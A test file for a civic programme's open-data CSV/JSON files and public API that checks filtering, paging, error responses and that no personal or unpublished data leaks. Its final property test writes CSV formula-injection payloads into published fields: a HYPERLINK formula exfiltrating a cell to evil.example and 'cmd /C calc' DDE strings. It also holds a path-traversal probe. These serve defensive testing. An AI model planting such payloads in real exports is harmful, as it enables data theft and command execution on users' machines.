// Open data and the public JSON API: what is published matches the programme's rows, filters and pages
// work, bad parameters answer 400, and nothing personal or unpublished ever leaks — checked by planting
// recognisable strings wherever personal or private text lives and searching every answer for them.
import fc from "fast-check";
import { sql } from "kysely";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { db } from "../../app/server/connections.server";
import { loader as challengesApi } from "../../app/routes/api.challenges";
import { loader as pilotsApi } from "../../app/routes/api.pilots";
import { loader as fileLoader } from "../../app/routes/open-data.$file";
import { loader as docsLoader } from "../../app/routes/open-data._index";
import { loader as dashboardLoader } from "../../app/routes/dashboard";
import { PROGRAMME_HEADLINES } from "../../app/lib/programme-headlines";
import type { ProgrammeFigures } from "../../app/server/dashboards/programme-figures.server";
import {
  addMember, createChallenge, createJudge, createKpi, createMilestone, createOrg, createPairedPilot, createProposal, createReview, createSponsorship,
  createUser,
} from "../support/factories";
import { FORMULA_START, parseCsv } from "../support/csv";
import { call, getRequest } from "../support/requests";
import { startAppServer } from "../support/server";

const DAY = 86_400_000;
const day = (n: number) => new Date(Date.now() + n * DAY);

const PLANTED = {
  userName: "Zebedee Quillfeather",
  email: "zebedee.quillfeather@planted.example",
  judgeName: "Ophelia Marchbanks",
  judgeEmail: "ophelia.marchbanks@planted.example",
  teamDescription: "PLANTED-TEAM-DESCRIPTION our founders",
  orgDescription: "PLANTED-ORG-DESCRIPTION about us",
  proposalTitle: "PLANTED-PROPOSAL-TITLE",
  proposalApproach: "PLANTED-PROPOSAL-APPROACH",
  judgeComment: "PLANTED-JUDGE-COMMENT weak plan",
  criterionComment: "PLANTED-CRITERION-COMMENT",
  draftChallenge: "PLANTED-DRAFT-CHALLENGE",
  draftPilot: "PLANTED-DRAFT-PILOT",
  measurementNote: "PLANTED-MEASUREMENT-NOTE",
  queryNote: "PLANTED-QUERY-NOTE",
  evidence: "PLANTED-MILESTONE-EVIDENCE",
  offeredSponsor: "Planted Offered Sponsor Ltd",
  lonelyStartup: "Planted Lonely Startup",
  sponsorNote: "PLANTED-SPONSOR-NOTE",
};

let ids: {
  open: string; piloting: string; upcoming: string; climatePiloting: string; draft: string;
  p1: string; p2: string; p3: string; p5: string; draftPilot: string;
  publicBody: string; corporate: string; startups: string[];
};

/** A team and its pilot on a challenge, written directly (pairing → team → pilot), with an accepted sponsorship. */
async function insertPilot(opts: {
  challengeId: string; publicOrgId: string; startupOrgId: string; sponsorshipId: string; corporateOrgId: string;
  title: string; status: "draft" | "approved" | "running" | "completed"; startsIn: number; endsIn: number; proposalTeam?: string;
}) {
  const proposal = await createProposal(opts.challengeId, opts.startupOrgId, { status: "submitted", title: PLANTED.proposalTitle });
  await db().updateTable("proposals").set({ status: "piloting", team: opts.proposalTeam ?? PLANTED.teamDescription, approach: PLANTED.proposalApproach })
    .where("id", "=", proposal.id).execute();
  const { pilot } = await createPairedPilot({
    challengeId: opts.challengeId, proposalId: proposal.id, sponsorshipId: opts.sponsorshipId,
    publicOrgId: opts.publicOrgId, startupOrgId: opts.startupOrgId, corporateOrgId: opts.corporateOrgId,
  }, {
    pilot: {
      title: opts.title, status: opts.status, starts_on: day(opts.startsIn), ends_on: day(opts.endsIn), budget_gbp: 30_000,
      approved_at: opts.status === "draft" ? null : day(-40),
    },
  });
  return pilot;
}

async function insertKpi(pilotId: string, name: string, measurements: { on: number; value: number; status: "recorded" | "verified" | "queried" }[]) {
  const kpi = await createKpi({ pilot_id: pilotId, name, unit: "people", baseline: 0, target: 100, direction: "higher", frequency: "monthly" });
  if (measurements.length) {
    await db().insertInto("measurements").values(measurements.map((m) => ({
      kpi_id: kpi.id, measured_on: day(m.on), value: m.value, status: m.status, note: PLANTED.measurementNote,
      query_note: m.status === "queried" ? PLANTED.queryNote : "",
    }))).execute();
  }
  return kpi.id;
}

beforeAll(async () => {
  // People, with planted names and emails.
  const person = await createUser({ name: PLANTED.userName, email: PLANTED.email });
  const judgeUser = await createUser({ name: PLANTED.judgeName, email: PLANTED.judgeEmail });
  const publicBody = await createOrg("public_body", { name: "Borough of Testham", verified: true });
  const corporate = await createOrg("corporate", { name: "Testham Energy plc", verified: true });
  const offered = await createOrg("corporate", { name: PLANTED.offeredSponsor, verified: true });
  const lonely = await createOrg("startup", { name: PLANTED.lonelyStartup });
  const startups = await Promise.all(["River Sensors Ltd", "CareLink Ltd", "Early Bird Ltd", "DraftCo Ltd", "Climate Kit Ltd"].map((name) => createOrg("startup", { name })));
  await db().updateTable("organisations").set({ description: PLANTED.orgDescription }).execute();
  await addMember(person.id, startups[0]!.id, "owner");
  await addMember(person.id, publicBody.id, "member");

  const open = await createChallenge(publicBody.id, { title: "River sensors for cleaner water", themeSlug: "climate", areaSlug: "camden" });
  const piloting = await createChallenge(publicBody.id, { title: "Care at home for over-75s", themeSlug: "ageing-population", areaSlug: "hackney", opensAt: day(-120), closesAt: day(-90) });
  const upcoming = await createChallenge(publicBody.id, { title: "Warm homes next winter", themeSlug: "reducing-inequality", areaSlug: "camden", opensAt: day(10), closesAt: day(40) });
  const climatePiloting = await createChallenge(publicBody.id, { title: "Greener deliveries in Camden", themeSlug: "climate", areaSlug: "camden", opensAt: day(-120), closesAt: day(-90) });
  const draft = await createChallenge(publicBody.id, { title: PLANTED.draftChallenge, status: "draft" });
  await db().updateTable("challenges").set({ status: "piloting" }).where("id", "in", [piloting.id, climatePiloting.id]).execute();

  // Sponsorships: accepted on the piloting challenges, one merely offered on the open challenge.
  const sponsorship = await createSponsorship({
    challenge_id: piloting.id, org_id: corporate.id, funding_gbp: 20_000, in_kind: ["mentoring", "test-sites"], capacity: 5, status: "accepted", note: PLANTED.sponsorNote,
  });
  const sponsorship2 = await createSponsorship({
    challenge_id: climatePiloting.id, org_id: corporate.id, funding_gbp: 5_000, in_kind: [], capacity: 2, status: "accepted",
  });
  await createSponsorship({
    challenge_id: open.id, org_id: offered.id, funding_gbp: 99_999, capacity: 1, status: "offered", note: PLANTED.sponsorNote,
  });

  // Proposals that are not public, a judge and their review with comments.
  const lonelyProposal = await createProposal(open.id, lonely.id, { status: "submitted", title: PLANTED.proposalTitle });
  await createProposal(open.id, startups[3]!.id, { status: "draft", title: PLANTED.proposalTitle });
  const judge = await createJudge({ challenge_id: open.id, user_id: judgeUser.id, expertise: PLANTED.judgeComment });
  const review = await createReview({
    challenge_id: open.id, proposal_id: lonelyProposal.id, judge_id: judge.id, status: "submitted", comment: PLANTED.judgeComment, submitted_at: new Date(),
  });
  const criterion = await db().selectFrom("rubric_criteria").select("id").where("challenge_id", "=", open.id).limit(1).executeTakeFirstOrThrow();
  await db().insertInto("review_scores").values({ review_id: review.id, criterion_id: criterion.id, score: 2, comment: PLANTED.criterionComment }).execute();

  const base = { challengeId: piloting.id, publicOrgId: publicBody.id, sponsorshipId: sponsorship.id, corporateOrgId: corporate.id };
  // P1 on track: 30 of 90 days gone, the KPI already at 90 % of its target, milestone done.
  const p1 = await insertPilot({ ...base, startupOrgId: startups[0]!.id, title: "Home check-ins pilot", status: "running", startsIn: -30, endsIn: 60 });
  await insertKpi(p1.id, "Residents reached", [{ on: -20, value: 40, status: "verified" }, { on: -2, value: 90, status: "verified" }, { on: -1, value: 1, status: "queried" }]);
  await insertKpi(p1.id, "Referrals", [{ on: -3, value: 50, status: "recorded" }]);
  await createMilestone({ pilot_id: p1.id, title: "Kick-off", due_on: day(-25), owner_org_id: publicBody.id, status: "done", done_on: day(-26), evidence: PLANTED.evidence });
  // P2 off track: two thirds of the way through, the KPI has hardly moved.
  const p2 = await insertPilot({ ...base, startupOrgId: startups[1]!.id, title: "Falls sensors pilot", status: "running", startsIn: -60, endsIn: 30 });
  await insertKpi(p2.id, "Falls avoided", [{ on: -5, value: 5, status: "verified" }]);
  // P3 not started yet.
  const p3 = await insertPilot({ ...base, startupOrgId: startups[2]!.id, title: "Befriending pilot", status: "approved", startsIn: 10, endsIn: 100 });
  await insertKpi(p3.id, "Visits", []);
  // A draft pilot: never published.
  const draftPilot = await insertPilot({ ...base, startupOrgId: startups[3]!.id, title: PLANTED.draftPilot, status: "draft", startsIn: -10, endsIn: 80 });
  await insertKpi(draftPilot.id, "Hidden KPI", [{ on: -1, value: 10, status: "verified" }]);
  // P5 at risk: one milestone five days overdue, no KPIs; on a climate challenge in Camden.
  const p5 = await insertPilot({
    challengeId: climatePiloting.id, publicOrgId: publicBody.id, sponsorshipId: sponsorship2.id, corporateOrgId: corporate.id,
    startupOrgId: startups[4]!.id, title: "Cargo bikes pilot", status: "running", startsIn: -20, endsIn: 70,
  });
  await createMilestone({ pilot_id: p5.id, title: "Bikes delivered", due_on: day(-5), owner_org_id: startups[4]!.id });

  ids = {
    open: open.id, piloting: piloting.id, upcoming: upcoming.id, climatePiloting: climatePiloting.id, draft: draft.id,
    p1: p1.id, p2: p2.id, p3: p3.id, p5: p5.id, draftPilot: draftPilot.id, publicBody: publicBody.id, corporate: corporate.id,
    startups: startups.map((s) => s.id),
  };
});

const FILES = ["challenges.csv", "challenges.json", "sponsors.csv", "sponsors.json", "pilots.csv", "pilots.json", "kpis.csv", "kpis.json", "programme.json"];

const file = (name: string) => call(fileLoader, getRequest(`/open-data/${name}`), { file: name });
const api = (handler: typeof challengesApi, path: string) => call(handler, getRequest(path));
// eslint-disable-next-line @typescript-eslint/no-explicit-any -- JSON answers, checked field by field
type Json = any;

function csvRows(text: string): string[] {
  return text.trimEnd().split("\n");
}

describe("nothing personal or unpublished is ever published", () => {
  it("no planted string, user id, email or user name appears in any file or API answer", async () => {
    const users = await db().selectFrom("users").select(["id", "email", "name"]).execute();
    const forbidden = [...Object.values(PLANTED), ...users.flatMap((u) => [u.id, u.email, u.name]), ids.draft, ids.draftPilot];
    const answers = [
      ...(await Promise.all(FILES.map(file))),
      ...(await Promise.all(["/api/challenges", "/api/challenges?pageSize=100", "/api/challenges?q=plan", "/api/challenges?status=open"].map((p) => api(challengesApi, p)))),
      ...(await Promise.all(["/api/pilots", "/api/pilots?pageSize=100", "/api/pilots?status=on_track"].map((p) => api(pilotsApi, p)))),
    ];
    for (const a of answers) {
      expect(a.status).toBe(200);
      for (const s of forbidden) expect(a.text, `"${s}" leaked`).not.toContain(s);
    }
    // The documentation page's data too.
    const docs = await call(docsLoader as never, getRequest("/open-data"));
    for (const s of Object.values(PLANTED)) expect(docs.text).not.toContain(s);
  });

  it("names start-ups only as partners in approved pilots", async () => {
    const pilots = (await file("pilots.json")).body as Json;
    const startupNames = new Set(pilots.data.map((p: Json) => p.startup));
    expect(startupNames).toEqual(new Set(["River Sensors Ltd", "CareLink Ltd", "Early Bird Ltd", "Climate Kit Ltd"]));
    for (const name of ["challenges.json", "sponsors.json", "kpis.json", "programme.json"]) {
      const text = (await file(name)).text;
      for (const s of ["River Sensors Ltd", "CareLink Ltd", "Early Bird Ltd", "Climate Kit Ltd", "DraftCo Ltd"]) expect(text).not.toContain(s);
    }
  });
});

describe("open-data files", () => {
  it("challenges: every published challenge with its public fields, drafts left out", async () => {
    const a = await file("challenges.json");
    expect(a.headers.get("content-type")).toBe("application/json; charset=utf-8");
    expect(a.headers.get("cache-control")).toBe("public, max-age=300");
    expect(a.headers.get("content-disposition")).toBeNull();
    const body = a.body as Json;
    expect(new Date(body.generatedAt).getTime()).toBeGreaterThan(Date.now() - 60_000);
    expect(body.data.map((c: Json) => c.id).sort()).toEqual([ids.open, ids.piloting, ids.upcoming, ids.climatePiloting].sort());
    const open = body.data.find((c: Json) => c.id === ids.open);
    expect(open).toEqual({
      id: ids.open, title: "River sensors for cleaner water", summary: expect.any(String), theme: "Preventing climate change", areas: ["Camden"],
      status: "open", funding_kind: "budget", funding_gbp: 50_000, pilot_weeks: 12, opens_at: expect.any(String), closes_at: expect.any(String),
      owner_organisation: "Borough of Testham",
    });
    expect(body.data.find((c: Json) => c.id === ids.upcoming).status).toBe("upcoming");
    expect(body.data.find((c: Json) => c.id === ids.piloting).status).toBe("piloting");
  });

  it("CSV files: header row, one row per item, attachment with a file name", async () => {
    const expected: Record<string, { header: string; rows: number }> = {
      "challenges.csv": { header: "id,title,summary,theme,areas,status,funding_kind,funding_gbp,pilot_weeks,opens_at,closes_at,owner_organisation", rows: 4 },
      "sponsors.csv": { header: "challenge_id,sponsor_organisation,funding_gbp,in_kind", rows: 2 },
      "pilots.csv": { header: "id,title,challenge_id,theme,areas,public_body,startup,sponsor_organisation,starts_on,ends_on,budget_gbp,status", rows: 4 },
      // P1: 2 verified measurements of one KPI + a KPI with none verified; P2: 1; P3: a KPI with none.
      "kpis.csv": { header: "kpi_id,pilot_id,name,unit,baseline,target,direction,frequency,date,value", rows: 5 },
    };
    for (const [name, e] of Object.entries(expected)) {
      const a = await file(name);
      expect(a.status).toBe(200);
      expect(a.headers.get("content-type")).toBe("text/csv; charset=utf-8");
      expect(a.headers.get("content-disposition")).toBe(`attachment; filename="${name}"`);
      expect(a.headers.get("cache-control")).toBe("public, max-age=300");
      const lines = csvRows(a.text);
      expect(lines[0]).toBe(e.header);
      expect(lines.length - 1, name).toBe(e.rows);
    }
    const sponsors = csvRows((await file("sponsors.csv")).text);
    expect(sponsors).toContain(`${ids.piloting},Testham Energy plc,20000,Mentoring; Test sites`);
  });

  it("sponsors: accepted sponsorships only", async () => {
    const body = (await file("sponsors.json")).body as Json;
    expect(body.data).toHaveLength(2);
    expect(body.data).toContainEqual({ challenge_id: ids.piloting, sponsor_organisation: "Testham Energy plc", funding_gbp: 20_000, in_kind: ["Mentoring", "Test sites"] });
    expect(body.data.map((s: Json) => s.challenge_id)).not.toContain(ids.open);
  });

  it("pilots: approved pilots with partners, dates, budget and derived status", async () => {
    const body = (await file("pilots.json")).body as Json;
    const byId = new Map(body.data.map((p: Json) => [p.id, p]));
    expect([...byId.keys()].sort()).toEqual([ids.p1, ids.p2, ids.p3, ids.p5].sort());
    expect(byId.get(ids.p1)).toEqual({
      id: ids.p1, title: "Home check-ins pilot", challenge_id: ids.piloting, theme: "Supporting an ageing population", areas: ["Hackney"],
      public_body: "Borough of Testham", startup: "River Sensors Ltd", sponsor_organisation: "Testham Energy plc",
      starts_on: day(-30).toISOString().slice(0, 10), ends_on: day(60).toISOString().slice(0, 10), budget_gbp: 30_000, status: "on_track",
    });
    expect(Object.fromEntries(body.data.map((p: Json) => [p.id, p.status]))).toEqual({
      [ids.p1]: "on_track", [ids.p2]: "off_track", [ids.p3]: "not_started", [ids.p5]: "at_risk",
    });
  });

  it("kpis: KPIs of approved pilots with verified measurements only", async () => {
    const body = (await file("kpis.json")).body as Json;
    expect(body.data).toHaveLength(4);
    const reached = body.data.find((k: Json) => k.name === "Residents reached");
    expect(reached).toMatchObject({ pilot_id: ids.p1, unit: "people", baseline: 0, target: 100, direction: "higher", frequency: "monthly" });
    expect(reached.measurements).toEqual([{ date: day(-20).toISOString().slice(0, 10), value: 40 }, { date: day(-2).toISOString().slice(0, 10), value: 90 }]);
    expect(body.data.find((k: Json) => k.name === "Referrals").measurements).toEqual([]);
    expect(body.data.map((k: Json) => k.name)).not.toContain("Hidden KPI");
  });

  it("programme: the dashboard's figures under the dashboard's names", async () => {
    const a = await file("programme.json");
    expect(a.headers.get("content-type")).toBe("application/json; charset=utf-8");
    const { data } = a.body as Json;
    expect(data.challenges_by_status).toMatchObject({ open: 1, upcoming: 1, piloting: 2, closed: 0 });
    expect(data.challenges_published).toBe(4);
    // lonely (submitted) + 4 pilots' proposals (piloting) + the draft pilot's (piloting); the draft proposal is not counted.
    expect(data.proposals_submitted).toBe(6);
    // The draft pilot is not counted, as in pilots.csv.
    expect(data.pilots_by_status).toEqual({ not_started: 1, on_track: 1, at_risk: 1, off_track: 1 });
    expect(data.pilots_with_approved_plans).toBe(4);
    expect(data.sponsor_funding_pledged_gbp).toBe(25_000);
    // Every headline the dashboard shows is in the file under its key, with the dashboard's value.
    const { figures } = (await call(dashboardLoader, getRequest("/dashboard"))).body as { figures: ProgrammeFigures };
    for (const h of PROGRAMME_HEADLINES) expect(data[h.key], h.key).toBe(h.value(figures));
    expect(data.computed_at).toBe(figures.computedAt);
  });

  it("answers 404 for a file it does not publish", async () => {
    for (const name of ["programme.csv", "users.json", "challenges.xml", "challenges", "../seed.ts"]) {
      expect((await file(name)).status, name).toBe(404);
    }
  });
});

describe("GET /api/challenges", () => {
  it("pages through every published challenge", async () => {
    const first = (await api(challengesApi, "/api/challenges?pageSize=3")).body as Json;
    expect(first).toMatchObject({ page: 1, pageSize: 3, total: 4, pageCount: 2 });
    expect(first.data).toHaveLength(3);
    const second = (await api(challengesApi, "/api/challenges?pageSize=3&page=2")).body as Json;
    expect(second.data).toHaveLength(1);
    expect(new Set([...first.data, ...second.data].map((c: Json) => c.id)).size).toBe(4);
    const past = (await api(challengesApi, "/api/challenges?pageSize=3&page=9")).body as Json;
    expect(past).toMatchObject({ data: [], total: 4, page: 9 });
    const defaults = await api(challengesApi, "/api/challenges");
    expect(defaults.headers.get("content-type")).toBe("application/json; charset=utf-8");
    expect(defaults.body).toMatchObject({ page: 1, pageSize: 20, total: 4, pageCount: 1 });
  });

  it("filters by theme, area, status and words", async () => {
    const titles = async (q: string) => ((await api(challengesApi, `/api/challenges?${q}`)).body as Json).data.map((c: Json) => c.title).sort();
    expect(await titles("theme=climate")).toEqual(["Greener deliveries in Camden", "River sensors for cleaner water"]);
    expect(await titles("area=hackney")).toEqual(["Care at home for over-75s"]);
    expect(await titles("status=upcoming")).toEqual(["Warm homes next winter"]);
    expect(await titles("theme=climate&status=piloting")).toEqual(["Greener deliveries in Camden"]);
    expect(await titles("q=river")).toEqual(["River sensors for cleaner water"]);
    expect(await titles("theme=no-such-theme")).toEqual([]);
  });

  it("answers 400 with { error } to bad parameters", async () => {
    for (const q of ["page=0", "page=abc", "page=1.5", "pageSize=0", "pageSize=101", "pageSize=-1", "status=draft", "status=bogus", "theme=Climate!", `q=${"x".repeat(201)}`]) {
      const a = await api(challengesApi, `/api/challenges?${q}`);
      expect(a.status, q).toBe(400);
      expect(a.headers.get("content-type")).toBe("application/json; charset=utf-8");
      expect((a.body as Json).error, q).toEqual(expect.any(String));
    }
  });
});

describe("GET /api/pilots", () => {
  it("filters by derived status, theme and area", async () => {
    const pilotIds = async (q: string) => ((await api(pilotsApi, `/api/pilots?${q}`)).body as Json).data.map((p: Json) => p.id).sort();
    expect(await pilotIds("status=on_track")).toEqual([ids.p1]);
    expect(await pilotIds("status=off_track")).toEqual([ids.p2]);
    expect(await pilotIds("status=not_started")).toEqual([ids.p3]);
    expect(await pilotIds("status=at_risk")).toEqual([ids.p5]);
    expect(await pilotIds("theme=climate")).toEqual([ids.p5]);
    expect(await pilotIds("area=hackney")).toEqual([ids.p1, ids.p2, ids.p3].sort());
    expect(await pilotIds("area=hackney&status=off_track")).toEqual([ids.p2]);
    expect(await pilotIds("area=camden&theme=ageing-population")).toEqual([]);
  });

  it("pages", async () => {
    const first = (await api(pilotsApi, "/api/pilots?pageSize=3")).body as Json;
    expect(first).toMatchObject({ page: 1, pageSize: 3, total: 4, pageCount: 2 });
    const second = (await api(pilotsApi, "/api/pilots?pageSize=3&page=2")).body as Json;
    expect(second.data).toHaveLength(1);
    expect(new Set([...first.data, ...second.data].map((p: Json) => p.id))).toEqual(new Set([ids.p1, ids.p2, ids.p3, ids.p5]));
    expect(((await api(pilotsApi, "/api/pilots?area=hackney&pageSize=2")).body as Json)).toMatchObject({ total: 3, pageCount: 2 });
  });

  it("answers 400 with { error } to bad parameters", async () => {
    for (const q of ["status=late", "status=draft", "page=0", "pageSize=1000", "area=Camden Town"]) {
      const a = await api(pilotsApi, `/api/pilots?${q}`);
      expect(a.status, q).toBe(400);
      expect((a.body as Json).error, q).toMatch(/must be/);
    }
  });
});

describe("over HTTP, through the production build", () => {
  let app: Awaited<ReturnType<typeof startAppServer>>;
  beforeAll(async () => {
    app = await startAppServer();
  });
  afterAll(async () => {
    await app?.close();
  });

  it("serves a CSV download, a JSON page of the API, a 400 and a 404", async () => {
    const csv = await fetch(`${app.url}/open-data/pilots.csv`);
    expect(csv.status).toBe(200);
    expect(csv.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(csv.headers.get("content-disposition")).toBe('attachment; filename="pilots.csv"');
    expect(csv.headers.get("cache-control")).toBe("public, max-age=300");
    expect(csvRows(await csv.text())).toHaveLength(1 + 4);

    const json = await fetch(`${app.url}/api/pilots?status=at_risk`);
    expect(json.status).toBe(200);
    expect(((await json.json()) as Json).data.map((p: Json) => p.id)).toEqual([ids.p5]);

    const bad = await fetch(`${app.url}/api/challenges?pageSize=500`);
    expect(bad.status).toBe(400);
    expect(await bad.json()).toEqual({ error: "pageSize must be a whole number from 1 to 100" });

    expect((await fetch(`${app.url}/open-data/users.csv`)).status).toBe(404);

    const docs = await fetch(`${app.url}/open-data`);
    expect(docs.status).toBe(200);
    const html = await docs.text();
    expect(html).toContain("Open Government Licence v3.0");
    for (const f of FILES) expect(html).toContain(`/open-data/${f}`);
  });
  it("no cell of any CSV begins with a formula, whatever is typed into the names and titles it publishes (fast-check)", { timeout: 60_000 }, async () => {
    // Text people type that the CSV files publish, and the columns that are numbers (written as numbers).
    const PLACES = [["kpis", "name"], ["kpis", "unit"], ["pilots", "title"], ["challenges", "title"], ["challenges", "summary"],
      ["organisations", "name"], ["themes", "name"], ["areas", "name"], ["in_kind_types", "name"]] as const;
    const NUMERIC = new Set(["funding_gbp", "pilot_weeks", "budget_gbp", "baseline", "target", "value"]);
    const CSVS = FILES.filter((f) => f.endsWith(".csv"));
    const before = await Promise.all(PLACES.map(([table, column]) => sql<{ id: string; v: string }>`SELECT id, ${sql.ref(column)} AS v FROM ${sql.table(table)}`.execute(db())));
    const kpi = await db().selectFrom("kpis").select(["id", "baseline"]).where("name", "=", "Residents reached").executeTakeFirstOrThrow();
    const payload = fc.oneof(
      fc.constantFrom("=HYPERLINK(\"https://evil.example/?\"&A1,\"Report\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "x\r=1+1"),
      fc.tuple(fc.constantFrom("=", "+", "-", "@", "\t", "\r", "\n", "\"", ","), fc.string({ maxLength: 20 })).map(([a, b]) => a + b),
    );
    try {
      // A negative baseline is a number, and stays one.
      await db().updateTable("kpis").set({ baseline: -5 }).where("id", "=", kpi.id).execute();
      await fc.assert(fc.asyncProperty(fc.tuple(...PLACES.map(() => payload)), async (typed) => {
        for (const [i, [table, column]] of PLACES.entries()) {
          // Every row of the table gets the text, numbered after a "#" (some names are unique, and are checked
          // row by row: without the "#", row 4's new "A01" + "4" would meet row 14's old "A0" + "14").
          await sql`UPDATE ${sql.table(table)} SET ${sql.ref(column)} = ${typed[i]!} || '#' || row_number FROM
            (SELECT id AS rid, row_number() OVER () AS row_number FROM ${sql.table(table)}) n WHERE id = n.rid`.execute(db());
        }
        for (const name of CSVS) {
          const res = await fetch(`${app.url}/open-data/${name}`);
          expect(res.status).toBe(200);
          const [header, ...rows] = parseCsv(await res.text());
          for (const row of rows) {
            expect(row, name).toHaveLength(header!.length);
            row.forEach((cell, c) => {
              if (NUMERIC.has(header![c]!)) expect(cell === "" || Number.isFinite(Number(cell)), `${name} ${header![c]}: ${cell}`).toBe(true);
              else expect(cell, `${name} ${header![c]}`).not.toMatch(FORMULA_START);
            });
          }
        }
        const kpis = parseCsv(await (await fetch(`${app.url}/open-data/kpis.csv`)).text());
        const reached = kpis.find((r) => r[0] === kpi.id)!;
        // What was typed is there, as text: behind a quote when a spreadsheet would have run it.
        const shown = reached[2]!;
        expect(shown.startsWith(`'${typed[0]}`) || (!FORMULA_START.test(typed[0]!) && shown.startsWith(typed[0]!)), shown).toBe(true);
        expect(reached[4]).toBe("-5");
      }), { numRuns: 15 });
    } finally {
      for (const [i, [table, column]] of PLACES.entries()) {
        for (const row of before[i]!.rows) await sql`UPDATE ${sql.table(table)} SET ${sql.ref(column)} = ${row.v} WHERE id = ${row.id}`.execute(db());
      }
      await db().updateTable("kpis").set({ baseline: kpi.baseline }).where("id", "=", kpi.id).execute();
    }
  });
});
